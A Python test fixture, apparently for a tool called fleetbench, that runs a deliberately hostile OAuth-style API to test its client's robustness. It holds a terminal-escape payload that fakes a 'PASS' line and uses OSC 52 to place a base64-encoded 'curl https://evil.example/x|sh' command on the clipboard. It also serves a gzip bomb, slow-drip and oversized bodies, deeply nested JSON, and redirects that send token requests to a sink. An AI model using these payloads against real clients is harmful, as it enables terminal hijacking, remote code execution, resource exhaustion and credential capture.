"""A deliberately hostile API: our target's contract, with answers chosen to attack fleetbench.

``HOSTILE`` (a comma-separated list, read at start) picks the attacks:

- ``ansi-401``: refusals carry ANSI and OSC 52 escapes in their body
- ``big-401``: refusals stream a ``BIG_BYTES`` body; ``drip-401``: one byte every ``DRIP_S``;
  ``big-200``: so do the answers to a valid token
- ``deep-token``: the token call answers JSON nested ``DEEP`` levels
- ``big-metrics`` / ``drip-metrics``: ``/metrics`` the same ways; ``bomb-metrics``: 64 KiB of
  gzip that inflate to ``BIG_BYTES``
- ``gzip``: every answer gzip-compressed (when the client accepts it), as many proxies do
- ``redirect-token`` / ``redirect-admin``: 307 from ``POST /auth/token`` / ``POST /admin/devices``
  to ``HOSTILE_SINK`` (another server); ``redirect-data``: the protected endpoints 302 to
  themselves (a loop)

``HOSTILE_ALG`` is the ``alg`` written in its tokens' header (any text), ``HOSTILE_METADATA_ALG``
the ``access_token_signing_alg`` of its RFC 8414 metadata. Apart from that it is a correct
RFC 6750 API: it accepts only the tokens it issued. ``GET /sent`` says how many body bytes its
streamed answers handed to the server, ``GET /seen`` how many requests it got (as a sink).
Serve with ``python -m uvicorn tests.sim.hostile_target:app``.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import secrets
import time
import zlib
from collections.abc import AsyncIterator
from urllib.parse import parse_qs

from starlette.applications import Starlette
from starlette.middleware.gzip import GZipMiddleware
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, Response, StreamingResponse
from starlette.routing import Route

from tests.sim.broken_target import contract_app, healthz

HOSTILE = set(filter(None, os.environ.get("HOSTILE", "").split(",")))
ALG = os.environ.get("HOSTILE_ALG", "HS256")
METADATA_ALG = os.environ.get("HOSTILE_METADATA_ALG")
SINK = os.environ.get("HOSTILE_SINK", "")
BIG_BYTES = 64 * 1024 * 1024  # streamed, never held: more than any cap fleetbench has
DRIP_S = 0.5
DRIP_FOR_S = 60.0  # a dripping answer ends after this, so a test on unfixed code ends too
DEEP = 100_000
# ESC [2K (erase line), CR, ESC [1A (cursor up), OSC 52 (write the clipboard), green "PASS".
ESCAPES = (
    "\x1b[1A\x1b[2K\r\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo\x07"
    "\x1b[32mPASS everything refused\x1b[0m"
)
METRICS = b"# TYPE process_cpu_seconds_total counter\nprocess_cpu_seconds_total 1.0\n"

_issued: set[str] = set()
_counts = {"sent": 0, "seen": 0}


def _b64(obj: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()


async def _big(request: Request) -> AsyncIterator[bytes]:
    chunk = b"x" * 65536
    for _ in range(BIG_BYTES // len(chunk)):
        # uvicorn drops what is sent after the client left: count only what it could read.
        if await request.is_disconnected():
            return
        _counts["sent"] += len(chunk)
        yield chunk


async def _drip(request: Request) -> AsyncIterator[bytes]:
    ends = time.monotonic() + DRIP_FOR_S
    while time.monotonic() < ends and not await request.is_disconnected():
        _counts["sent"] += 1
        yield b"x"
        await asyncio.sleep(DRIP_S)


def _streamed(
    request: Request, kind: str, status: int, headers: dict[str, str] | None = None
) -> Response:
    body = _big(request) if kind == "big" else _drip(request)
    return StreamingResponse(body, status_code=status, headers=headers)


def _redirect(path: str) -> Response:
    return Response(status_code=307, headers={"Location": SINK + path})


def _refuse(request: Request, description: str) -> Response:
    challenge = (
        f'Bearer realm="fleetbench", error="invalid_token", error_description="{description}"'
    )
    if description == "missing":
        challenge = 'Bearer realm="fleetbench"'
    if "ansi-401" in HOSTILE:  # in the body (uvicorn refuses to send them in a header), and
        # no challenge, so that probe shows the body
        return PlainTextResponse(f"refused {ESCAPES}\n", status_code=401)
    for kind in ("big", "drip"):
        if f"{kind}-401" in HOSTILE:
            return _streamed(request, kind, 401, {"WWW-Authenticate": challenge})
    return JSONResponse({"error": "invalid_token"}, 401, {"WWW-Authenticate": challenge})


async def counts(request: Request) -> Response:
    return JSONResponse(_counts)


async def register(request: Request) -> Response:
    if "redirect-admin" in HOSTILE:
        return _redirect("/admin/devices")
    body = await request.json()
    return JSONResponse({"created": len(body["devices"])}, status_code=201)


async def token(request: Request) -> Response:
    if "redirect-token" in HOSTILE:
        return _redirect("/auth/token")
    if "deep-token" in HOSTILE:
        return Response("[" * DEEP + "]" * DEEP, media_type="application/json")
    form = {k: v[0] for k, v in parse_qs((await request.body()).decode()).items()}
    now = int(time.time())
    claims = {"sub": form.get("client_id", "device"), "iat": now, "exp": now + 3600}
    header = {"alg": ALG, "typ": "at+jwt", "kid": "k1"}
    issued = f"{_b64(header)}.{_b64(claims)}.{secrets.token_urlsafe(16)}"
    _issued.add(issued)
    return JSONResponse({"access_token": issued, "token_type": "Bearer", "expires_in": 3600})


async def resource(request: Request) -> Response:
    if "redirect-data" in HOSTILE:
        return Response(status_code=302, headers={"Location": str(request.url.path)})
    authorization = request.headers.get("authorization", "")
    if not authorization.startswith("Bearer "):
        return _refuse(request, "missing")
    if authorization.removeprefix("Bearer ") not in _issued:
        return _refuse(request, "signature")
    if "big-200" in HOSTILE:
        return _streamed(request, "big", 202 if request.method == "POST" else 200)
    return JSONResponse({"data": "ok"}, status_code=202 if request.method == "POST" else 200)


def _bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: the gzip container
    megabyte = b"0" * 1024 * 1024
    return b"".join(packer.compress(megabyte) for _ in range(BIG_BYTES // len(megabyte))) + (
        packer.flush()
    )


async def metrics(request: Request) -> Response:
    if "bomb-metrics" in HOSTILE:
        return Response(_bomb(), media_type="text/plain", headers={"Content-Encoding": "gzip"})
    for kind in ("big", "drip"):
        if f"{kind}-metrics" in HOSTILE:
            return _streamed(request, kind, 200)
    return Response(METRICS, media_type="text/plain")


async def metadata(request: Request) -> Response:
    if METADATA_ALG is None:
        return JSONResponse({"error": "not_found"}, status_code=404)
    return JSONResponse(
        {"issuer": "urn:fleetbench:target", "access_token_signing_alg": METADATA_ALG}
    )


async def sink(request: Request) -> Response:
    _counts["seen"] += 1
    return JSONResponse({"created": 0}, status_code=201)


app = contract_app(
    resource,
    token,
    extra=[
        Route("/sent", counts),
        Route("/metrics", metrics),
        Route("/.well-known/oauth-authorization-server", metadata),
        Route("/admin/devices", register, methods=["POST"]),  # before the contract's own
    ],
)
if "gzip" in HOSTILE:
    app.add_middleware(GZipMiddleware, minimum_size=0)

# A sink: counts every request but the health check, whatever its path.
sink_app = Starlette(
    routes=[
        Route("/healthz", healthz),
        Route("/seen", counts),
        Route("/{path:path}", sink, methods=["GET", "POST", "PUT", "DELETE"]),
    ]
)
